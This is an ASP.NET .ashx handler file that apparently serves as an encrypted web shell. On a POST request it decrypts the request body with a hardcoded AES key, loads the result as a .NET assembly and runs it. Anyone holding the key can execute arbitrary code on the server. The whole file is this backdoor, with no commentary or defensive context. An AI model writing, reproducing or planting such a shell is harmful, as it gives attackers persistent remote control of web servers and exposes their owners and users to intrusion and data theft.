<%@ WebHandler Language="C#" Class="Handler" %>
using System;
using System.Web;
using System.Web.SessionState;
using System.Reflection;

public class Handler : IHttpHandler, IRequiresSessionState
{
    public void ProcessRequest(HttpContext context)
    {
        if (context.Request.HttpMethod == "POST")
        {
            string key = "e10adc3949ba59ab";
            context.Session.Add("k", key);
            byte[] k = System.Text.Encoding.Default.GetBytes(key);
            byte[] c = context.Request.BinaryRead(context.Request.ContentLength);
            Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(context);
        }
    }
    public bool IsReusable { get { return false; } }
}
